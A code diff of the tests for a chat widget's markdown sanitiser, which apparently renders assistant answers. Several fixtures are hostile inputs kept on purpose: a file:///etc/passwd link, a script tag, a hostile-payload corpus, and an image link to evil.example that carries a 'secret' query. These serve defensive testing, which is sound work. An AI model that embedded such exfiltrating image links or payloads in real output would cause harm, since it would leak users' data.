@@ -1,19 +1,21 @@
 import { describe, expect, test } from '@jest/globals';
 import fc from 'fast-check';
 import { linkAdmitted } from '../../../lambdas/cleaning/markdown.ts';
-import { DEPTH } from '../../../widget/talk/inline.ts';
+import { DEPTH, element, type Cite, type Piece } from '../../../widget/talk/inline.ts';
 import { linkAdmitted as linkShown } from '../../../widget/talk/link.ts';
 import { markdown } from '../../../widget/talk/markdown.ts';
-import { element } from '../../../widget/talk/inline.ts';
+import { rich } from './late.ts';
 import { hostilePayloads } from '../../lambdas/cleaning/hostile-corpus.ts';
 import { elements, outline, textOf } from './vnodes.ts';
 
 const ELEMENTS = new Set('p br strong em s code pre a ul ol li blockquote hr div table thead tbody tr th td'.split(' '));
 const ATTRIBUTES = new Set(['href', 'target', 'rel', 'dir', 'start', 'class', 'tabIndex']);
 
+const whole = (text: string, cite?: Cite): Piece[] => markdown(text, cite, () => rich);
+
 /** What of some text would be more than a text with emphasis, lists and links. */
 const wrongIn = (text: string): unknown[] =>
-  elements(markdown(text)).filter(
+  elements(whole(text)).filter(
     ({ name, attributes }) =>
       !ELEMENTS.has(name) ||
       Object.keys(attributes).some((key) => !ATTRIBUTES.has(key)) ||
@@ -89,12 +91,12 @@ describe('an answer', () => {
     ['blob:https://a.example/1'],
     ['file:///etc/passwd'],
   ])('has no link to %s', (address) => {
-    expect(elements(markdown(`[label](${address})`)).some(({ name, attributes }) => name === 'a' && attributes['href'] === address)).toBe(false);
+    expect(elements(whole(`[label](${address})`)).some(({ name, attributes }) => name === 'a' && attributes['href'] === address)).toBe(false);
     expect(linkShown(address)).toBe(linkAdmitted(address));
   });
 
   test('loads no picture: its words stand for it', () => {
-    expect(outline(markdown('before ![a map](https://evil.example/?q=secret) after'))).toBe('<p>before a map after</>');
+    expect(outline(whole('before ![a map](https://evil.example/?q=secret) after'))).toBe('<p>before a map after</>');
   });
 
   test.each([
@@ -118,12 +120,18 @@ describe('an answer', () => {
     ['a\n---\nb', '<p>a</><hr></><p>b</>'],
     ['<b>x</b> & <script>', '<p><b>x</b> & <script></>'],
   ])('shows %j as it was meant', (text, expected) => {
-    expect(outline(markdown(text))).toBe(expected);
+    expect(outline(whole(text))).toBe(expected);
+  });
+
+  test('with a table in it is text until the part of the script that knows tables is there', () => {
+    const table = '| a |\n|---|\n| 1 |';
+    expect(outline(markdown(table))).toBe('<p>| a |<br></>|---|<br></>| 1 |</>');
+    expect(outline(whole(table))).toContain('<table>');
   });
 
   test('marks its sources, and only those that there are', () => {
     const cite = (number: number) => (number <= 2 ? element('sup', null, String(number)) : undefined);
-    expect(outline(markdown('So [1], so [2], and [3].', cite))).toBe('<p>So <sup>1</>, so <sup>2</>, and [3].</>');
+    expect(outline(whole('So [1], so [2], and [3].', cite))).toBe('<p>So <sup>1</>, so <sup>2</>, and [3].</>');
   });
 
   test.each([
@@ -141,7 +149,7 @@ describe('an answer', () => {
     ['heading', `# ${'a #'.repeat(13_000)}`],
   ])('of endless %s is read in no time, and no deeper than is bearable', (_what, text) => {
     const began = performance.now();
-    const deepest = Math.max(0, ...elements(markdown(text)).map(({ depth }) => depth));
+    const deepest = Math.max(0, ...elements(whole(text)).map(({ depth }) => depth));
     expect(performance.now() - began).toBeLessThan(1_000);
     // A list has two elements for each level, and a table four.
     expect(deepest).toBeLessThanOrEqual(2 * DEPTH + 4);
@@ -149,6 +157,6 @@ describe('an answer', () => {
 
   test('keeps every word of what it does not understand', () => {
     const text = 'a [b c](d e ![ **f *g `h > i';
-    expect(textOf(markdown(text))).toBe(text);
+    expect(textOf(whole(text))).toBe(text);
   });
 });
